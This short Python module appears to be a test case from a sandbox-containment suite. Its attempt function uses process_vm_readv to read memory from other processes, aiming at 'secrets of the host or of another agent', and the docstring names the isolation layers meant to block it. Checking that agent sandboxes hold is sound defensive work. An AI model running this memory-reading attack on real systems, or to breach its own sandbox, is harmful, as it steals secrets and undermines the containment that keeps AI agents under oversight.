"""Read another process's memory.

gain: secrets of the host or of another agent
attack: T1003
stopped by: pid namespace, seccomp, Landlock
unconfined: host
also refused by: ESRCH
"""

import ctypes
import struct

from attacker import call, each, first


def attempt(world):
    def read(pid):
        buffer = ctypes.create_string_buffer(16)
        local = ctypes.create_string_buffer(struct.pack("2Q", ctypes.addressof(buffer), 16))
        remote = ctypes.create_string_buffer(struct.pack("2Q", world["address"], 16))
        call("process_vm_readv", pid, local, 1, remote, 1, 0)
        return f"read process {pid}: {buffer.raw!r}"

    return first(*each(world["pids"], read))
